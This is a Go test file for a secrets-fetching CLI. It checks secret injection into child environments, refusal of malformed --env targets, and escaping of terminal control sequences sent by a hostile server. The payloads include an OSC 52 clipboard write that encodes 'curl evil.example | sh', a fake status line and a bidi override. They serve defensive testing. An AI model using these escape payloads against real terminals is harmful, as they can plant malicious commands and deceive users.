package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/hex"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/status"

	aspsv1 "github.com/asps-project/asps/api/asps/v1"
	"github.com/asps-project/asps/dcap/sim"
	"github.com/asps-project/asps/devmode"
)

// TestAttack_RunEnvInheritedVariableShadowsSecret: the host sets
// DB_PASSWORD (twice, even) in the environment of `asps run --env
// db-password=DB_PASSWORD`. getenv returns the first entry of a name, so a
// secret appended after them would lose; the secret must replace every
// inherited entry, and the run says so on stderr by name, never by value.
// asps runs as a real process whose environment holds both entries (set
// with os.StartProcess, which keeps duplicates), and execs env(1), which
// prints its environment exactly as it received it.
func TestAttack_RunEnvInheritedVariableShadowsSecret(t *testing.T) {
	dir := t.TempDir()
	env, err := devmode.Start(context.Background(), devmode.Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer env.Stop()
	bin := buildBinary(t)
	envBin, err := exec.LookPath("env")
	if err != nil {
		t.Skip("no env(1)")
	}
	secret := string(devmode.DemoSecrets()["db-password"])
	for _, tc := range []struct {
		name      string
		inherited []string
		note      string
	}{
		{"inherited once", []string{"DB_PASSWORD=host-chosen"}, "(1 entry)"},
		// Go's runtime drops the later duplicates from os.Environ; the
		// count of entries replaced is TestRunPlanReplacesEveryEntry's.
		{"inherited twice", []string{"DB_PASSWORD=host-chosen", "PATH=/usr/bin:/bin", "DB_PASSWORD=host-chosen-2"}, "(1 entry)"},
		{"not inherited", nil, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, errOut := runProcess(t, append([]string{"PATH=/usr/bin:/bin", "KEEP=1"}, tc.inherited...),
				bin, "run", "--dev-dir", dir, "--env", "db-password=DB_PASSWORD", "--", envBin)
			var got []string
			for _, l := range strings.Split(out, "\n") {
				if strings.HasPrefix(l, "DB_PASSWORD=") {
					got = append(got, l)
				}
			}
			if len(got) != 1 || got[0] != "DB_PASSWORD="+secret {
				t.Fatalf("the program sees %q, want only the secret\nstderr: %s", got, errOut)
			}
			if !strings.Contains(out, "KEEP=1\n") {
				t.Fatalf("an unrelated variable was lost:\n%s", out)
			}
			if strings.Contains(errOut, secret) || strings.Contains(errOut, "host-chosen") {
				t.Fatalf("stderr shows a value: %s", errOut)
			}
			if tc.note == "" {
				if strings.Contains(errOut, "replaces") {
					t.Fatalf("nothing was replaced, yet stderr says: %s", errOut)
				}
				return
			}
			if !strings.Contains(errOut, "replaces the inherited DB_PASSWORD "+tc.note) {
				t.Fatalf("stderr does not say DB_PASSWORD was replaced: %q", errOut)
			}
		})
	}
}

// TestRunPlanReplacesEveryEntry: every inherited entry of the variable
// goes, however many an environment holds, and only those.
func TestRunPlanReplacesEveryEntry(t *testing.T) {
	p := runPlan{env: mapping{{"db-password", "DB_PASSWORD"}, {"demo-key", "KEY"}}}
	var notes bytes.Buffer
	env, _, err := p.apply(map[string][]byte{"db-password": []byte("s3cret"), "demo-key": []byte("k")},
		[]string{"DB_PASSWORD=a", "DB_PASSWORD_OLD=keep", "HOME=/h", "DB_PASSWORD=b", "DB_PASSWORD", "KEY="}, &notes)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"DB_PASSWORD_OLD=keep", "HOME=/h", "DB_PASSWORD=s3cret", "KEY=k"}
	if strings.Join(env, "|") != strings.Join(want, "|") {
		t.Fatalf("env %q, want %q", env, want)
	}
	if n := notes.String(); !strings.Contains(n, "DB_PASSWORD (3 entries)") || !strings.Contains(n, "KEY (1 entry)") || strings.Contains(n, "s3cret") {
		t.Fatalf("notes %q", n)
	}
}

// runProcess runs argv with exactly the environment env (duplicates kept)
// and returns its stdout and stderr; it fails the test if the process fails.
func runProcess(t *testing.T, env []string, argv ...string) (string, string) {
	t.Helper()
	outR, outW, _ := os.Pipe()
	errR, errW, _ := os.Pipe()
	p, err := os.StartProcess(argv[0], argv, &os.ProcAttr{Env: env, Files: []*os.File{nil, outW, errW}})
	outW.Close()
	errW.Close()
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	done := make(chan struct{})
	go func() { stderr.ReadFrom(errR); close(done) }()
	stdout.ReadFrom(outR)
	<-done
	st, err := p.Wait()
	if err != nil || !st.Success() {
		t.Fatalf("%s: %v %v\nstderr: %s", strings.Join(argv, " "), err, st, stderr.String())
	}
	return stdout.String(), stderr.String()
}

// TestRunEnvTargetRefused: an --env target that is not a variable name
// (it would set another variable) or that two secrets share is refused
// before anything is fetched.
func TestRunEnvTargetRefused(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--env", "db-password=PATH=/tmp/x"}, "not an environment variable name"},
		{[]string{"--env", "db-password=X", "--env", "demo-key=X"}, "both go to X"},
	} {
		code, _, stderr := run(t, append(append([]string{"run", "--server", "127.0.0.1:1", "--server-pin", strings.Repeat("11", 32)}, tc.args...), "--", "true")...)
		if code != 2 || !strings.Contains(stderr, tc.want) {
			t.Errorf("%v: exit %d, %s", tc.args, code, stderr)
		}
	}
}

// hostileServer implements asps.v1 and answers with terminal escape
// sequences in every text it controls.
type hostileServer struct {
	aspsv1.UnimplementedSecretsServer
	text string
	// rename, when set, answers GetSecrets with this name instead of a
	// refusal.
	rename bool
}

func (h *hostileServer) GetSecrets(_ context.Context, r *aspsv1.GetSecretsRequest) (*aspsv1.GetSecretsResponse, error) {
	if h.rename {
		return &aspsv1.GetSecretsResponse{Secrets: []*aspsv1.Secret{{Name: r.GetNames()[0] + h.text, Value: []byte("v")}}}, nil
	}
	return nil, status.Error(codes.PermissionDenied, h.text)
}

func (h *hostileServer) WhoAmI(context.Context, *aspsv1.WhoAmIRequest) (*aspsv1.WhoAmIResponse, error) {
	return &aspsv1.WhoAmIResponse{Tee: "sgx" + h.text, TcbStatus: "UpToDate" + h.text, MatchedApp: "app" + h.text,
		SecretNames: []string{"a" + h.text, "b" + h.text}}, nil
}

// startHostile serves h on loopback with an ordinary self-signed
// certificate, and returns a --dev-dir whose server.addr and server.pin
// point at it (the workload's simulated enclave comes from its pki).
func startHostile(t *testing.T, h *hostileServer) string {
	t.Helper()
	cert, pin, err := devmode.SelfSignedServerCert("hostile")
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := grpc.NewServer(grpc.Creds(credentials.NewTLS(&tls.Config{Certificates: []tls.Certificate{cert}, ClientAuth: tls.RequestClientCert})))
	aspsv1.RegisterSecretsServer(s, h)
	go s.Serve(l)
	t.Cleanup(s.Stop)
	dir := t.TempDir()
	pki, err := sim.NewPKI([]byte("hostile-server-test"))
	if err != nil {
		t.Fatal(err)
	}
	if err := pki.Save(filepath.Join(dir, "pki")); err != nil {
		t.Fatal(err)
	}
	for name, v := range map[string]string{"server.addr": l.Addr().String(), "server.pin": hex.EncodeToString(pin[:])} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(v+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// controlBytes returns the control characters in out other than line
// breaks: C0 (ESC, BEL, CR, …), DEL, and C1 (U+0080–U+009F, which some
// terminals take as CSI/OSC), plus any invalid UTF-8.
func controlBytes(out string) []string {
	var bad []string
	if !utf8.ValidString(out) {
		bad = append(bad, "invalid UTF-8")
	}
	for i, r := range out {
		switch {
		case r == '\n':
		case r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f:
			bad = append(bad, strings.ToValidUTF8(out[max(0, i-10):min(len(out), i+10)], "?"))
		case r == '\u202e':
			bad = append(bad, "bidi override")
		}
	}
	return bad
}

// TestAttack_HostileServerTextDrivesTerminal: a hostile server's error
// messages, WhoAmI fields and secret names carry a title change (OSC 0),
// a clipboard write (OSC 52), a C1 CSI, a bidi override and a carriage
// return that would overwrite the line with a fake one. fetch, whoami and
// run print them escaped: no control byte reaches the output.
func TestAttack_HostileServerTextDrivesTerminal(t *testing.T) {
	payloads := map[string]string{
		"title":     "\x1b]0;pwned title\x07",
		"clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
		"line fake": "\r\x1b[2Kasps fetch: secret verified OK\n",
		"c1 csi":    "\u009b31mred\u009b0m",
		"bidi":      "\u202etxt.exe",
		"bad utf8":  "\xff\xfe\x1b",
	}
	for name, p := range payloads {
		t.Run(name, func(t *testing.T) {
			refuse := startHostile(t, &hostileServer{text: "refused " + p})
			rename := startHostile(t, &hostileServer{text: p, rename: true})
			for _, args := range [][]string{
				{"fetch", "--dev-dir", refuse, "demo-key"},
				{"fetch", "--dev-dir", rename, "demo-key"},
				{"whoami", "--dev-dir", refuse},
				{"run", "--dev-dir", refuse, "--env", "demo-key=K", "--", "true"},
				{"run", "--dev-dir", rename, "--env", "demo-key=K", "--", "true"},
			} {
				_, stdout, stderr := run(t, args...)
				if stdout+stderr == "" {
					t.Fatalf("%v printed nothing", args)
				}
				if bad := controlBytes(stdout + stderr); len(bad) > 0 {
					t.Errorf("%v: control characters reach the terminal: %q\nstdout %q\nstderr %q", args, bad, stdout, stderr)
				}
			}
		})
	}
	// The escaped text is still there for the operator to read.
	dir := startHostile(t, &hostileServer{text: "refused \x1b]0;x\x07"})
	if _, _, stderr := run(t, "fetch", "--dev-dir", dir, "demo-key"); !strings.Contains(stderr, `refused (PermissionDenied): refused \x1b]0;x\x07`) {
		t.Fatalf("stderr %q", stderr)
	}
}

// TestAttack_HostileSecretValueOnTerminal: a raw secret value printed to a
// terminal is escaped (a character device stands in for the terminal);
// piped, it passes as sent.
func TestAttack_HostileSecretValueOnTerminal(t *testing.T) {
	dir := t.TempDir()
	env, err := devmode.Start(context.Background(), devmode.Options{Dir: dir, Secrets: map[string][]byte{"demo-key": []byte("\x1b]52;c;ZXZpbA==\x07"), "db-password": []byte("x")}})
	if err != nil {
		t.Fatal(err)
	}
	defer env.Stop()
	tty, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer tty.Close()
	var stderr bytes.Buffer
	if err := fetch([]string{"--dev-dir", dir, "demo-key"}, tty, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stderr.String(), "stdout is a terminal") {
		t.Fatalf("stderr %q", stderr.String())
	}
	code, out, _ := run(t, "fetch", "--dev-dir", dir, "demo-key")
	if code != 0 || out != "\x1b]52;c;ZXZpbA==\x07" {
		t.Fatalf("piped: %d %q", code, out)
	}
}
